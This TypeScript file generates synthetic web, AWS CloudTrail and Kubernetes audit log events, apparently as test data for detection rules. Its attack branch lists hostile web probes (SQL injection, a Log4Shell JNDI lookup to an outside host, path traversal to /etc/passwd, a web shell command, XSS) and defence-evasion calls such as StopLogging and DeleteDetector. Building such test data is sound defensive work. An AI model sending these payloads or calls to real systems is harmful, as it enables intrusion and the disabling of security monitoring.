// Events of services: requests to web servers, calls of a cloud's API, audit of a cluster.
import { between } from "../../chance.ts";
import { address, guid, hex, name, pick, word } from "./made-event.ts";
import type { Maker } from "./made-event.ts";

const agents = ["Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36", "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1", "okhttp/4.12.0", "Go-http-client/2.0", "kube-probe/1.33"] as const;
const stems = ["/api/v2/orders", "/static/js/main.js", "/login", "/healthz", "/img/logo.svg", "/search", "/cart/items", "/"] as const;
const probes = ["/index.php?id=1%27%20UNION%20SELECT%201,2,3--", "/?x=${jndi:ldap://203.0.113.9/a}", "/cgi-bin/.%2e/.%2e/.%2e/bin/sh", "/../../etc/passwd", "/wp-content/plugins/x/shell.php?cmd=whoami", "/?q=<script>alert(1)</script>"] as const;

export const webRequest: Maker = (chance, isAttack) => {
  const stem = isAttack ? pick(chance, probes) : `${pick(chance, stems)}/${name(chance)}`;
  const query = isAttack ? stem.split("?")[1] ?? "" : `page=${between(chance, 1, 90)}&sort=${word(chance)}&session=${hex(chance, 16)}`;
  const uri = isAttack ? stem : `${stem}?${query}`;
  return {
    logsource: { category: "webserver", product: pick(chance, ["nginx", "apache"]), service: "access" },
    fields: {
      "c-ip": address(chance), "cs-method": pick(chance, ["GET", "GET", "GET", "POST", "HEAD"]), "cs-uri": uri, "cs-uri-stem": stem.split("?")[0] ?? "", "cs-uri-query": query, "cs-host": "shop.example", "cs-user-agent": isAttack && chance() < 0.3 ? "sqlmap/1.8#stable" : pick(chance, agents), "cs-referer": "https://shop.example/", "cs-username": "-", "sc-status": pick(chance, [200, 200, 200, 304, 404, 302, 500]), "sc-bytes": between(chance, 100, 90_000), "time-taken": between(chance, 1, 900),
      "request-decoded": decodeURIComponent(uri), remote_addr: address(chance), protocol: "HTTP/1.1", upstream: `10.0.0.${between(chance, 1, 40)}:8080`, request_id: hex(chance, 32),
    },
  };
};

const calls: readonly [readonly [string, string], ...(readonly [string, string])[]] = [["ec2.amazonaws.com", "DescribeInstances"], ["s3.amazonaws.com", "GetObject"], ["sts.amazonaws.com", "AssumeRole"], ["kms.amazonaws.com", "Decrypt"], ["logs.amazonaws.com", "CreateLogStream"], ["iam.amazonaws.com", "ListRoles"], ["lambda.amazonaws.com", "ListFunctions20150331"]];
const badCalls: readonly [readonly [string, string], ...(readonly [string, string])[]] = [["cloudtrail.amazonaws.com", "StopLogging"], ["guardduty.amazonaws.com", "DeleteDetector"], ["iam.amazonaws.com", "CreateAccessKey"], ["signin.amazonaws.com", "ConsoleLogin"], ["ec2.amazonaws.com", "DisableEbsEncryptionByDefault"]];

export const cloudCall: Maker = (chance, isAttack) => {
  const [eventSource, eventName] = pick(chance, isAttack ? badCalls : calls);
  const account = String(between(chance, 100_000_000, 999_999_999));
  return {
    logsource: { product: "aws", service: "cloudtrail" },
    fields: {
      eventVersion: "1.10", eventTime: "2026-11-22T10:00:00Z", eventSource, eventName, awsRegion: pick(chance, ["us-east-1", "eu-central-1"]), sourceIPAddress: address(chance), userAgent: "aws-sdk-go-v2/1.30 os/linux lang/go#1.23", requestID: guid(chance), eventID: guid(chance), readOnly: !isAttack, eventType: isAttack && eventName === "ConsoleLogin" ? "AwsConsoleSignIn" : "AwsApiCall", managementEvent: true, recipientAccountId: account, eventCategory: "Management", errorCode: null,
      userIdentity: { type: isAttack ? "Root" : "AssumedRole", principalId: `AROA${hex(chance, 16).toUpperCase()}`, arn: `arn:aws:sts::${account}:assumed-role/${word(chance)}/${name(chance)}`, accountId: account, sessionContext: { sessionIssuer: { type: "Role", userName: word(chance) }, attributes: { mfaAuthenticated: "false", creationDate: "2026-11-22T09:00:00Z" } } },
      requestParameters: { bucketName: name(chance), key: `${word(chance)}/${hex(chance, 8)}.json`, roleArn: `arn:aws:iam::${account}:role/${word(chance)}` }, responseElements: null, tlsDetails: { tlsVersion: "TLSv1.3", cipherSuite: "TLS_AES_128_GCM_SHA256", clientProvidedHostHeader: eventSource },
    },
  };
};

export const clusterCall: Maker = (chance, isAttack) => {
  const [verb, resource, subresource] = isAttack ? pick(chance, [["create", "pods", "exec"], ["delete", "events", undefined], ["create", "clusterrolebindings", undefined]] as const) : pick(chance, [["get", "configmaps", undefined], ["list", "pods", undefined], ["watch", "endpointslices", undefined], ["update", "leases", undefined], ["patch", "deployments", "status"]] as const);
  const pod = name(chance);
  return {
    logsource: { category: "application", product: "kubernetes", service: "audit" },
    fields: {
      kind: "Event", apiVersion: "audit.k8s.io/v1", level: "RequestResponse", auditID: guid(chance), stage: "ResponseComplete", requestURI: `/api/v1/namespaces/${word(chance)}/${resource}/${pod}`, verb, user: { username: isAttack ? "kubernetes-admin" : `system:serviceaccount:${word(chance)}:${word(chance)}`, groups: ["system:serviceaccounts", "system:authenticated"], extra: { "authentication.kubernetes.io/pod-name": [pod] } },
      sourceIPs: [address(chance)], userAgent: pick(chance, ["kube-controller-manager/v1.33.1 (linux/amd64) kubernetes/8adc0f0/system:serviceaccount", "kubectl/v1.33.1 (linux/amd64) kubernetes/8adc0f0", "argocd-application-controller/v0.0.0"]), objectRef: { resource, namespace: word(chance), name: pod, apiVersion: "v1", ...subresource === undefined ? {} : { subresource } },
      responseStatus: { metadata: {}, code: isAttack ? 201 : 200 }, requestReceivedTimestamp: "2026-11-22T10:00:00.000000Z", stageTimestamp: "2026-11-22T10:00:00.010000Z", annotations: { "authorization.k8s.io/decision": "allow", "authorization.k8s.io/reason": `RBAC: allowed by ClusterRoleBinding "${word(chance)}"` },
    },
  };
};
